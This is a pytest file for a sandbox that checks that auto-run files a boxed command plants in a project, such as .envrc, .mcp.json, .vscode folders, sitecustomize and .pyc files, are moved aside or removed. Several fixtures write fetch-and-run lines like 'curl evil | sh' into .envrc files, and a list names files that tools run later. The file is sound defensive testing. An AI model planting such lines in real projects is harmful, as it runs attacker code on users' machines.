"""What runs code later below the top of a step's folder: held read-only where it was
there before a boxed command, moved aside where the command made it or put it there
(``box_walk.py``, read by the box's first process), unless the step's ``writes`` name it."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from harness.boxed import FRONT_ENDS, env_path, kernel, running
from harness.kernel import require_kernel
from harness.step_plans import step_spec, write
from maker.executor.protocol.orient import record_orient
from maker.executor.state.lifecycle import start_step
from maker.store.plan_store import PlanStore
from maker.tools.box import box_sites
from maker.tools.box.box_sites import aside
from maker.tools.box.box_walk import below
from maker.tools.box.runs_later import anywhere, runs_later

__all__ = ["env_path", "kernel", "running"]  # (the fixtures, from the harness)

MADE = [".mcp.json", ".envrc", ".npmrc", "lefthook.yml", ".pnpmfile.cjs", "mise.toml",
        ".pre-commit-config.yaml", ".pdbrc", ".gitmodules", ".git"]
MADE_DIRS = [".claude", ".vscode", ".idea", ".husky", ".cargo", ".devcontainer"]


def _run(store: PlanStore, front: str, command: str) -> subprocess.CompletedProcess[str]:
    refusal, run = FRONT_ENDS[front](store, command)
    assert refusal is None, refusal
    return subprocess.run(["bash", "-c", run], cwd=store.project, capture_output=True,
                          text=True, timeout=30, check=False)


def _step(project: Path, writes: list[str]) -> PlanStore:
    require_kernel()
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    store = write(project, [step_spec(1, -1, primary_tools=["Read", "Write", "Bash"],
                                      writes=writes)], policy="never")
    start_step(store, 1, session_id="sess-1")
    record_orient(store, 1, "none")
    return store


@pytest.mark.kernel
@pytest.mark.parametrize("front", sorted(FRONT_ENDS))
def test_what_a_command_makes_below_the_top_is_moved_aside(kernel: PlanStore,
                                                          front: str) -> None:
    command = (f"python3 -c \"import os\nos.makedirs('a/b')\nfor f in {MADE!r}: "
               "open('a/b/' + f, 'w').write('{}')\n"
               f"for d in {MADE_DIRS!r}: os.mkdir('a/' + d); open('a/' + d + '/x.json', 'w')\"; "
               "echo kept > a/notes.txt; exit 5")
    done = _run(kernel, front, command)
    assert done.returncode == 5, done.stderr
    left = {p.name for p in (kernel.project / "a").iterdir()} | \
        {p.name for p in (kernel.project / "a/b").iterdir()}
    assert not left & {*MADE, *MADE_DIRS}, left
    assert (kernel.project / "a/notes.txt").read_text() == "kept\n"
    for name in MADE:
        assert f"moved {kernel.project / 'a/b' / name} aside" in done.stderr, name
        moved = kernel.project / "a/b" / f"maker-aside.{name}"
        assert moved.read_text() == "{}"  # (nothing lost: the person may move it back)
        assert runs_later(moved, kernel.project) is None, moved  # (no tool reads it there)
    for name in MADE_DIRS:
        assert (kernel.project / "a" / f"maker-aside.{name}/x.json").is_file(), name


@pytest.mark.kernel
def test_one_there_before_is_read_only_and_stays_where_it_is(kernel: PlanStore) -> None:
    (kernel.project / "sub/.vscode").mkdir(parents=True)
    (kernel.project / "sub/.envrc").write_text("export A=1\n")
    (kernel.project / "sub/.vscode/tasks.json").write_text("{}\n")
    done = _run(kernel, "plugin", "echo 'curl x | sh' >> sub/.envrc; "
                                  "echo bad > sub/.vscode/tasks.json; rm -f sub/.envrc; "
                                  "mv sub/.envrc e; mv sub/.vscode v2; echo after")
    assert done.stdout == "after\n", done.stderr
    assert (kernel.project / "sub/.envrc").read_text() == "export A=1\n"
    assert (kernel.project / "sub/.vscode/tasks.json").read_text() == "{}\n"
    assert not (kernel.project / "e").exists() and not (kernel.project / "v2").exists()
    assert "aside" not in done.stderr  # (the person's own: nothing moved)


@pytest.mark.kernel
def test_what_the_steps_writes_name_by_path_is_its_own(plugin_project: Path,
                                                       env_path: None) -> None:
    store = _step(plugin_project, ["sub", "docs/*/.envrc", ".gitmodules"])
    done = _run(store, "plugin", "mkdir -p sub/a docs/x && echo 'use nix' > sub/a/.envrc && "
                                 "echo x > docs/x/.envrc && git init -q vendor/lib")
    assert done.returncode == 0, done.stderr
    assert (plugin_project / "sub/a/.envrc").read_text() == "use nix\n"  # (a folder named)
    assert not (plugin_project / "docs/x/.envrc").exists()  # (a wildcard names none)
    assert (plugin_project / "docs/x/maker-aside..envrc").is_file()
    assert (plugin_project / "vendor/lib/.git").is_dir()  # (a step adding submodules)


def test_the_walk_finds_below_the_top_only_and_skips_what_no_one_works_in(
        tmp_path: Path) -> None:
    top = tmp_path / "p"
    for folder in ("src/x", ".venv/lib", "node_modules/y", "build", ".git/hooks", "plans"):
        (top / folder).mkdir(parents=True)
    for name in (".envrc", "src/x/.envrc", "src/x/Lefthook.yml", "node_modules/y/.envrc",
                 ".venv/.envrc", "build/.npmrc", "plans/.envrc", ".git/hooks/.envrc"):
        (top / name).write_text("x\n")
    (top / ".venv/pyvenv.cfg").write_text("home = /usr\n")
    (top / "build/CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ".envrc").write_text("x\n")
    (top / "src/up").symlink_to(top)  # (a loop: walked once)
    (top / "src/out").symlink_to(outside)  # (not a place the box may write)
    (top / "link").symlink_to(top / "node_modules/y")  # (followed: the box may write there)
    later = time.time_ns() + 1  # (the venv and the cache folder: older than the plan's first call)
    lists = {"deeper": list(anywhere()), "rw": [str(top)], "temp": [],
             "laterskip": [str(top / ".git"), str(top / "plans")], "since": [str(later)]}
    walk = below(str(top), lists)
    assert walk.finished
    assert sorted(walk.found) == sorted(str(top / p) for p in (
        "src/x/.envrc", "src/x/Lefthook.yml", "node_modules/y/.envrc"))
    assert walk.venvs == [str(top / ".venv")]
    lists["since"] = ["0"]  # (made since: a command could have made them to be passed by)
    assert {str(top / ".venv/.envrc"), str(top / "build/.npmrc")} <= set(
        below(str(top), lists).found)


def test_moved_aside_under_a_free_name(tmp_path: Path) -> None:
    (tmp_path / ".envrc").write_text("1\n")
    (tmp_path / "maker-aside..envrc").write_text("0\n")
    moved = aside(str(tmp_path / ".envrc"))
    assert os.path.basename(moved) == "maker-aside.1..envrc"
    assert Path(moved).read_text() == "1\n"
    assert (tmp_path / "maker-aside..envrc").read_text() == "0\n"


def _after_of(top: Path, **more: list[str]) -> tuple[object, dict[str, list[str]]]:
    """``box_after``'s ``After`` for ``top``, as the box's first process makes it (no mount:
    what it holds is not bound here)."""
    from maker.tools.box.box_after import After

    lists = {k: [] for k in ("gitdir", "later", "index", "git", "laterok", "laterokname",
                             "laterskip", "temp")}
    lists.update({"laterdir": [str(top)], "rw": [str(top)], "since": ["0"],
                  "deeper": list(anywhere())}, **more)
    After.hold(lists)
    return After(lists), lists


def test_one_that_cannot_be_moved_aside_is_removed_and_the_rest_still_go(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    after, _ = _after_of(tmp_path)
    for name in ("a/.envrc", "b/.envrc", "c/.npmrc"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("evil\n")
    real = box_sites.aside
    monkeypatch.setattr(box_sites, "aside", lambda p: (_ for _ in ()).throw(OSError("full"))
                        if p.endswith("b/.envrc") else real(p))
    said = after.undo()  # type: ignore[attr-defined]
    assert not (tmp_path / "b/.envrc").exists() and "removed" in " ".join(said)
    assert (tmp_path / "a/maker-aside..envrc").is_file()
    assert (tmp_path / "c/maker-aside..npmrc").is_file()


def test_one_held_goes_with_its_folder_as_it_was(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/.envrc").write_text("export A=1\n")
    after, _ = _after_of(tmp_path)
    (tmp_path / "sub").rename(tmp_path / "zzz")
    (tmp_path / "zzz/y").mkdir()
    (tmp_path / "zzz/y/.envrc").write_text("evil\n")
    after.undo()  # type: ignore[attr-defined]
    assert (tmp_path / "zzz/.envrc").read_text() == "export A=1\n"  # (the person's)
    assert not (tmp_path / "zzz/y/.envrc").exists()


def test_a_held_link_replaced_is_new_whatever_its_inode(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/.envrc").symlink_to("../notes")
    after, _ = _after_of(tmp_path)
    time.sleep(0.02)
    (tmp_path / "sub/.envrc").unlink()
    (tmp_path / "sub/.envrc").symlink_to("../evil.sh")  # (an inode may come back)
    after.undo()  # type: ignore[attr-defined]
    assert not os.path.lexists(tmp_path / "sub/.envrc")


def test_a_folder_named_like_a_file_is_no_match(tmp_path: Path) -> None:
    for path in ("cmd/head/main.go", "src/mise.rs", "tools/lefthook_utils.py"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text("x\n")
    lists = {"deeper": list(anywhere()), "rw": [str(tmp_path)], "temp": [], "laterskip": []}
    assert below(str(tmp_path), lists).found == {}


def test_a_new_link_out_of_the_folder_goes_not_what_it_leads_to(tmp_path: Path) -> None:
    top, outside = tmp_path / "p", tmp_path / "elsewhere"
    (outside / "clone").mkdir(parents=True)
    (outside / "clone/.envrc").write_text("the person's\n")
    top.mkdir()
    after, _ = _after_of(top, temp=[str(tmp_path)])
    (top / "other").symlink_to(outside)
    said = after.undo()  # type: ignore[attr-defined]
    assert (outside / "clone/.envrc").read_text() == "the person's\n"
    assert not os.path.lexists(top / "other") and "leads out" in " ".join(said)


def test_a_link_out_there_before_is_the_persons_and_not_looked_in(tmp_path: Path) -> None:
    """Nothing there is held (bound into the box) nor undone: it is not the step's."""
    top, outside = tmp_path / "p", tmp_path / "elsewhere"
    (outside / "clone/.git").mkdir(parents=True)
    top.mkdir()
    (top / "scratch").symlink_to(outside)
    after, lists = _after_of(top, temp=[str(tmp_path)])
    assert lists["held"] == [] and lists["links"] == [str(top / "scratch")]
    assert after.undo() == []  # type: ignore[attr-defined]
    assert (outside / "clone/.git").is_dir() and (top / "scratch").is_symlink()


def test_one_too_deep_to_remove_at_the_top_is_moved_aside(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    from maker.tools.box import box_after

    (tmp_path / ".vscode").mkdir()
    monkeypatch.setattr(shutil, "rmtree", lambda p: (_ for _ in ()).throw(RecursionError()))
    box_after._remove(str(tmp_path / ".vscode"))
    assert (tmp_path / "maker-aside..vscode").is_dir()


@pytest.mark.kernel
def test_a_name_in_no_encoding_stops_no_box(kernel: PlanStore) -> None:
    odd = os.fsdecode(b"caf\xe9")
    (kernel.project / odd).mkdir()
    (kernel.project / odd / ".envrc").write_text("export A=1\n")
    for _ in range(2):
        done = _run(kernel, "plugin", "echo ran")
        assert done.stdout == "ran\n", done.stderr
    assert (kernel.project / odd / ".envrc").read_text() == "export A=1\n"


@pytest.mark.kernel
def test_a_repository_there_before_stays_held_for_a_step_adding_submodules(
        plugin_project: Path, env_path: None) -> None:
    store = _step(plugin_project, [".gitmodules"])
    subprocess.run(["git", "init", "-q", str(plugin_project / "vendor/old")], check=True)
    done = _run(store, "plugin", "touch vendor/old/.git/config && echo writable")
    assert "writable" not in done.stdout
    done = _run(store, "plugin", "git init -q vendor/new && echo made")
    assert done.stdout == "made\n" and (plugin_project / "vendor/new/.git").is_dir()


@pytest.mark.kernel
@pytest.mark.parametrize("front", sorted(FRONT_ENDS))
def test_compiled_python_the_command_leaves_in_the_project_goes(kernel: PlanStore,
                                                                front: str) -> None:
    """python runs a `.pyc` in place of its source when their times and sizes agree: one
    a command wrote goes, and the box's own python writes its `.pyc` files elsewhere."""
    (kernel.project / "pkg").mkdir()
    (kernel.project / "pkg/__init__.py").write_text("X = 1\n")
    (kernel.project / "pkg/__pycache__").mkdir()
    mine = kernel.project / "pkg/__pycache__/old.cpython-311.pyc"
    mine.write_bytes(b"the person's")
    done = _run(kernel, front, "python3 -c 'import pkg' && python3 -m py_compile pkg/__init__.py"
                               " && cp pkg/__init__.py mod.pyc && echo done")
    assert done.stdout == "done\n", done.stderr
    left = sorted(p.name for p in (kernel.project / "pkg/__pycache__").iterdir())
    assert left == ["old.cpython-311.pyc"] and mine.read_bytes() == b"the person's"
    assert not (kernel.project / "mod.pyc").exists()


@pytest.mark.kernel
@pytest.mark.parametrize("signal_name", ["SIGHUP", "SIGTERM", "SIGQUIT"])
def test_a_box_signalled_from_outside_still_undoes(kernel: PlanStore, signal_name: str) -> None:
    """A closed terminal (SIGHUP), a timeout (SIGTERM), a SIGQUIT, sent to the call's
    process group: the command ends, one that ignores them too, and the box still undoes
    what it left."""
    import signal

    refusal, run = FRONT_ENDS["plugin"](kernel, (
        "mkdir -p sub && echo x > sub/.envrc && echo y > .mcp.json && python3 -c 'import "
        "signal, time; [signal.signal(s, signal.SIG_IGN) for s in (1, 3, 15)]; "
        "print(\"ready\", flush=True); time.sleep(30)'"))  # (it stays on)
    assert refusal is None, refusal
    call = subprocess.Popen(["bash", "-c", run], cwd=kernel.project, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, text=True, start_new_session=True)
    assert call.stdout is not None and call.stdout.readline() == "ready\n"
    os.killpg(call.pid, getattr(signal, signal_name))
    call.wait(timeout=30)
    call.stdout.close()
    for _ in range(100):  # (the box's first process undoes once all in it has ended)
        if not (kernel.project / ".mcp.json").exists() and \
                not (kernel.project / "sub/.envrc").exists():
            break
        time.sleep(0.1)
    assert not (kernel.project / ".mcp.json").exists()
    assert not (kernel.project / "sub/.envrc").exists()


def test_a_venv_passed_by_before_is_passed_by_after_whatever_the_command_added(
        tmp_path: Path) -> None:
    """A venv older than the plan, whose folder a command changes (`pip install` adds
    `share/`), is not walked after the command as if all in it were new."""
    site = tmp_path / ".venv/lib/python3.11/site-packages"
    (site / "pkg/__pycache__").mkdir(parents=True)
    (tmp_path / ".venv/pyvenv.cfg").write_text("home = /usr\n")
    (site / "pkg/__pycache__/m.cpython-311.pyc").write_bytes(b"pip's")
    after, _ = _after_of(tmp_path, since=[str(time.time_ns() + 1)])
    time.sleep(0.05)  # (past a coarse clock's tick: the folder is then younger than that)
    (tmp_path / ".venv/share").mkdir()
    assert after.undo() == []  # type: ignore[attr-defined]
    assert (site / "pkg/__pycache__/m.cpython-311.pyc").is_file()


def test_sitecustomize_in_any_form_a_command_adds_to_a_venv_goes(tmp_path: Path) -> None:
    site = tmp_path / "v2/lib/python3.11/site-packages"
    site.mkdir(parents=True)
    (tmp_path / "v2/pyvenv.cfg").write_text("home = /usr\n")
    after, _ = _after_of(tmp_path)
    (site / "sitecustomize").mkdir()
    (site / "sitecustomize/__init__.py").write_text("import os\n")
    (site / "usercustomize.pyc").write_bytes(b"\0")
    said = after.undo()  # type: ignore[attr-defined]
    assert not (site / "sitecustomize").exists() and not (site / "usercustomize.pyc").exists()
    for gone in (site / "sitecustomize", site / "usercustomize.pyc"):
        assert any(f"removed {gone}," in line for line in said), said


@pytest.mark.kernel
def test_a_persons_link_into_tmp_shows_the_step_nothing_of_it(kernel: PlanStore) -> None:
    """The box's /tmp is its own: a link of the person's into the real /tmp is not looked
    in, and nothing there is carried into the box's /tmp."""
    import tempfile

    other = Path(tempfile.mkdtemp(prefix="someone-", dir="/tmp"))
    (other / "proj").mkdir()
    (other / "proj/.npmrc").write_text("token=SECRET\n")
    (kernel.project / "scratch").symlink_to(other)
    done = _run(kernel, "plugin", f"cat {other}/proj/.npmrc; echo done")
    assert "SECRET" not in done.stdout and done.stdout.endswith("done\n"), done.stdout
    assert (other / "proj/.npmrc").read_text() == "token=SECRET\n"


@pytest.mark.kernel
def test_a_link_to_the_top_held_leaves_the_project_writable(kernel: PlanStore) -> None:
    (kernel.project / "sub").mkdir()
    (kernel.project / "sub/.vscode").symlink_to("..")  # (the person's, odd as it is)
    for _ in range(2):
        done = _run(kernel, "plugin", "echo x > notes.txt && echo written")
        assert done.stdout == "written\n", done.stderr
    assert (kernel.project / "sub/.vscode").is_symlink()


@pytest.mark.kernel
def test_a_check_out_of_time_still_undoes(kernel: PlanStore) -> None:
    """maker verify's check past its time is told to stop (SIGTERM, then SIGKILL): the
    box ends it and undoes what it left."""
    from maker.verify.check_run import run_check, step_box
    from maker.verify.detect import VerifyCommand

    (kernel.project / "plant.sh").write_text("mkdir -p sub && echo x > sub/.envrc && "
                                             "echo '{}' > .mcp.json && sleep 30\n")
    evidence = run_check(VerifyCommand("test", "bash plant.sh"), 1, 1, kernel.project, {},
                         timeout=2, heartbeat_s=60, progress=None,
                         boxed=step_box(kernel, 1, kernel.project))
    assert evidence.exit_code != 0
    assert not (kernel.project / ".mcp.json").exists()
    assert not (kernel.project / "sub/.envrc").exists()


def test_one_past_the_bound_binds_is_held_by_what_it_is_ctime_too(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from maker.tools.box import box_after

    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / ".envrc").write_text("export A=1\n")
    after, lists = _after_of(tmp_path)
    assert len(lists["bound"]) == 1
    unbound = next(p for p in lists["held"] if p not in lists["bound"])
    time.sleep(0.05)  # (past a coarse clock's tick)
    with open(unbound, "a") as out:
        out.write("curl evil | sh\n")  # (in place: the same inode)
    after.undo()  # type: ignore[attr-defined]
    assert not os.path.exists(unbound)


def test_a_cache_passed_by_then_renamed_is_walked_where_it_lies_now(tmp_path: Path) -> None:
    (tmp_path / ".pytest_cache").mkdir()
    (tmp_path / ".pytest_cache/CACHEDIR.TAG").write_text("Signature: x\n")
    after, _ = _after_of(tmp_path, since=[str(time.time_ns() + 1)])
    time.sleep(0.05)  # (past a coarse clock's tick: the rename's ctime is later)
    (tmp_path / ".pytest_cache").rename(tmp_path / "tools")
    (tmp_path / "tools/.envrc").write_text("curl evil | sh\n")
    after.undo()  # type: ignore[attr-defined]
    assert not (tmp_path / "tools/.envrc").exists()
